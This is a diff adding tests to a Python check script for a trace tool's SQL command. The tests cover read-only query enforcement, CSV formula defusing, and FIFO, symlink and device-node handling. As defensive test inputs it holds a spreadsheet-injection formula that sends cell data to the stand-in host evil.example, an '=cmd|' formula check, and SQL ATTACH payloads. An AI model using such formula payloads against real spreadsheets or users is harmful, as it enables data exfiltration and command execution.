@@ -14,7 +14,7 @@
     than SQLite; skipped with a message where node or its package is
     missing, failed in CI, LUDUS_CI=1).
 usage: check_sql.py DEMO LUDUS_TRACE HOSTILE_NAMES WORKDIR ROOT"""
-import csv, io, json, os, re, shutil, sqlite3, subprocess, sys
+import csv, io, json, os, re, shutil, sqlite3, stat, subprocess, sys
 
 demo, tool, hostile, work, root = sys.argv[1:6]
 shutil.rmtree(work, ignore_errors=True)
@@ -40,6 +40,11 @@ def sql(target, query, *opts):
     for m in re.finditer(rb"^\[(?:\]|\n.*?^\])$", out, re.S | re.M):
         res.append(json.loads(m.group(0)))
     return res
+
+
+def csv_undefuse(cell):
+    """A CSV cell's text as the capture holds it: one ' off a defused formula (docs/sql.md)."""
+    return cell[1:] if re.match(r"'+[=+\-@\t\r]", cell) else cell
 
 
 def one(target, query):
@@ -227,6 +232,19 @@ check(rc == 0 and open(os.path.join(work, "threads.csv"), newline="").read() == 
 rc, _, err = run("sql", "demo.ludus", "SELECT nosuch FROM slice")
 check(rc == 1 and "no such column" in err, "an SQL error: said, exit 1")
 
+# ---- queries only read: nothing attached, written or vacuumed into a file ----
+for q in ("ATTACH DATABASE 'pwn.db' AS x; CREATE TABLE x.t(a)", "VACUUM INTO 'copy.db'", "VACUUM",
+          "CREATE TABLE t(a)", "CREATE TEMP TABLE t(a)", "DELETE FROM slice", "INSERT INTO site(id) VALUES (1)",
+          "PRAGMA journal_mode = WAL", "SELECT 1; ATTACH 'pwn2.db' AS y"):
+    rc, _, err = run("sql", "demo.ludus", q)
+    check(rc == 1 and "refused: queries only read" in err, "read-only: %s: rc %d %s" % (q, rc, err))
+    rc, _, err = run("sql", "demo.ludus", stdin=(q + ";\n").encode())
+    check("refused: queries only read" in err, "read-only at the prompt: %s: %s" % (q, err))
+check(not [f for f in os.listdir(work) if f.endswith(".db")], "read-only: no file made: %s" % os.listdir(work))
+check(one("demo.ludus", "PRAGMA table_info(slice)")[0]["name"] == "capture_id", "read-only: table_info still reads")
+check(one("demo.ludus", "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) "
+                        "SELECT count(*) AS c FROM n")[0]["c"] == 3, "read-only: a recursive query runs")
+
 # ---- hostile names round-trip ----
 subprocess.run([hostile, os.path.join(work, "hostile")], check=True, capture_output=True)
 rc, _, err = run("convert", "hostile.ludus", "hostile.json")
@@ -239,8 +257,35 @@ check(sorted(r["name"] for r in one("hostile.ludus", "SELECT DISTINCT name FROM 
 got_json = [r["name"] for r in one("hostile.ludus", "SELECT DISTINCT name FROM slice ORDER BY name")]
 check(sorted(got_json) == want, "hostile: slice names through --json are the JSON export's")
 rc, out, _ = run("sql", "hostile.ludus", "SELECT DISTINCT name FROM slice", "--csv")
-got_csv = [r[0] for r in csv.reader(io.StringIO(out.decode("utf-8"), newline=""))][1:]
+raw_csv = [r[0] for r in csv.reader(io.StringIO(out.decode("utf-8"), newline=""))][1:]
+# a text a spreadsheet would run starts with ' (docs/sql.md): none is left bare, and one ' off gives it back
+check(not [c for c in raw_csv if re.match(r"[=+\-@\t\r]", c)], "hostile: a CSV cell a spreadsheet would run")
+check([c for c in raw_csv if c.startswith("'=cmd|")], "hostile: =cmd|... defused with a '")
+got_csv = [csv_undefuse(c) for c in raw_csv]
 check(sorted(got_csv) == want, "hostile: names through CSV")
+rc, out, _ = run("sql", "demo.ludus", "SELECT '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")' AS a, "
+                 "'-2' AS b, -2 AS c, '''+x' AS d, char(9) || '=1' AS e, 'plain' AS f", "--csv")
+check(out == b'a,b,c,d,e,f\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","\'-2",-2,"\'\'+x",'
+      b'"\'\t=1",plain\r\n', "CSV: formulas defused, numbers kept (%r)" % out)
+# CSV on a terminal: control characters shown, never sent (a pty as standard output)
+import pty
+master, slave = pty.openpty()
+p = subprocess.Popen([tool, "sql", "hostile.ludus", "SELECT DISTINCT name FROM slice", "--csv"], cwd=work,
+                     stdout=slave, stderr=subprocess.PIPE)
+os.close(slave)
+tty_out = b""
+while True:
+    try:
+        chunk = os.read(master, 65536)
+    except OSError:
+        break
+    if not chunk:
+        break
+    tty_out += chunk
+p.wait()
+os.close(master)
+bad = [c for c in tty_out.decode("utf-8", "replace") if (ord(c) < 0x20 and c not in "\r\n") or 0x7F <= ord(c) < 0xA0]
+check(p.returncode == 0 and b"x1b" in tty_out and not bad, "CSV on a terminal: no control character sent (%r)" % bad[:5])
 rc, out, _ = run("sql", "hostile.ludus", "SELECT DISTINCT name FROM slice", "--jsonl")
 check(sorted(json.loads(l)["name"] for l in out.decode().split("\n") if l) == want, "hostile: names through JSON Lines")
 rc, out, _ = run("sql", "hostile.ludus", "SELECT name, category FROM slice UNION ALL SELECT msg, level FROM log", "--table")
@@ -263,6 +308,75 @@ n_slices = one("demo.ludus", "SELECT count(*) AS n, sum(dur) AS d FROM slice")[0
 with sqlite3.connect(os.path.join(work, "demo.sqlite")) as db:
     check(db.execute("SELECT count(*), sum(dur) FROM slice").fetchone() == (n_slices["n"], n_slices["d"]),
           "the .sqlite file holds the slices")
+# ---- devices, FIFOs and links: written and read by the one rule (docs/sql.md) ----
+import threading
+fifo = os.path.join(work, "out-fifo.sqlite")
+os.mkfifo(fifo)
+got = {}
+t = threading.Thread(target=lambda: got.setdefault("data", open(fifo, "rb").read()), daemon=True)
+t.start()
+rc, _, err = run("convert", "demo.ludus", fifo, "--format", "sqlite")
+t.join(60)
+check(rc == 0 and os.path.exists(fifo) and stat.S_ISFIFO(os.lstat(fifo).st_mode),
+      "convert --format sqlite into a FIFO: written in place, still a FIFO (%s)" % err)
+check(got.get("data", b"").startswith(b"SQLite format 3\0"), "the FIFO's reader got the database")
+target = os.path.join(work, "target.sqlite")
+link = os.path.join(work, "link.sqlite")
+os.symlink("target.sqlite", link)
+rc, _, err = run("convert", "demo.ludus", link)
+check(rc == 0 and os.path.islink(link) and open(target, "rb").read(16) == b"SQLite format 3\0",
+      "convert to .sqlite through a link: the link kept, its target written (%s)" % err)
+# a device node of our own (root only): a regression replaces it, never /dev/full itself
+full = os.path.join(work, "full.sqlite")
+try:
+    os.mknod(full, 0o666 | stat.S_IFCHR, os.makedev(1, 7))  # as /dev/full
+except OSError as e:
+    print("skip: the device check needs mknod (%s)" % e)
+else:
+    rc, _, err = run("convert", "demo.ludus", full, "--format", "sqlite")
+    check(rc != 0 and stat.S_ISCHR(os.lstat(full).st_mode) and "No space" in err,
+          "convert --format sqlite into a full device: a write error, the device kept (%s)" % err)
+check(not [f for f in os.listdir(work) if "tmp" in f], "no temporary left: %s" % os.listdir(work))
+# a FIFO named *.ludus: read as a pipe is (it is given, so it is waited on, as "-" is); in a
+# directory it is skipped, never waited on (the bounds only catch a hang)
+lfifo = os.path.join(work, "fifo-dir")
+os.makedirs(lfifo)
+os.mkfifo(os.path.join(lfifo, "a.ludus"))
+shutil.copy(os.path.join(work, "demo.ludus"), os.path.join(lfifo, "b.ludus"))
+demo_bytes = open(os.path.join(work, "demo.ludus"), "rb").read()
+
+
+def feed(path):
+    with open(path, "wb") as f:
+        f.write(demo_bytes)
+
+
+for args in (("info", "fifo-dir/a.ludus"), ("report", "fifo-dir/a.ludus")):
+    t = threading.Thread(target=feed, args=(os.path.join(lfifo, "a.ludus"),), daemon=True)
+    t.start()
+    try:
+        p = subprocess.run([tool, *args], capture_output=True, cwd=work, timeout=120)
+        check(p.returncode == 0, "%s on a FIFO with a writer: read as a pipe (%r)" % (args[0], p.stderr))
+    except subprocess.TimeoutExpired:
+        check(False, "%s on a FIFO with a writer hangs" % args[0])
+    t.join(60)
+try:
+    p = subprocess.run([tool, "sql", "fifo-dir", "SELECT count(*) AS n FROM capture"], capture_output=True, cwd=work,
+                       timeout=60)
+    check(p.returncode == 0 and p.stdout == b"n\r\n1\r\n" and b"not a regular file, skipped" in p.stderr,
+          "sql DIR with a FIFO: skipped, said (%r %r)" % (p.stdout, p.stderr))
+except subprocess.TimeoutExpired:
+    check(False, "sql DIR with a FIFO hangs")
+# a pipe works wherever - does
+if shutil.which("bash"):
+    for cmd in ("info <(cat demo.ludus)", "report <(cat demo.ludus)",
+                "sql <(cat demo.ludus) <(cat playtests/run2.ludus) 'SELECT count(*) AS n FROM capture'",
+                "convert <(cat demo.ludus) piped.json"):
+        p = subprocess.run(["bash", "-c", "exec %s %s" % (tool, cmd)], capture_output=True, cwd=work, timeout=120)
+        check(p.returncode == 0, "a pipe as input: %s: %r" % (cmd, p.stderr))
+        if cmd.startswith("sql"):
+            check(p.stdout == b"n\r\n2\r\n", "two pipes as inputs: %r" % p.stdout)
+
 node = shutil.which("node")
 pkg = os.path.join(root, "tests", "sql", "node_modules", "@duckdb", "node-api")
 if not node or not os.path.isdir(pkg):
@@ -282,6 +396,10 @@ else:
         d = json.loads(p.stdout)
         ours = one(target, "SELECT count(*) AS n, sum(dur) AS dur FROM slice")[0]
         check(int(d["slices"][0]["n"]) == ours["n"] and int(d["slices"][0]["dur"]) == ours["dur"], "DuckDB %s: slices" % out_dir)
+        if fmt == "csv":  # the CSV files hold defused formulas (docs/sql.md)
+            d["names"] = [csv_undefuse(n) for n in d["names"]]
+            d["threads"] = [csv_undefuse(n) for n in d["threads"]]
+            d["messages"] = [csv_undefuse(n) for n in d["messages"]]
         check(sorted(d["names"]) == sorted(
             r["name"] for r in one(target, "SELECT DISTINCT name FROM slice")), "DuckDB %s: the names round-trip" % out_dir)
         check(d["threads"] == [r["name"] for r in one(target, "SELECT name FROM thread ORDER BY utid")], "DuckDB %s: threads" % out_dir)
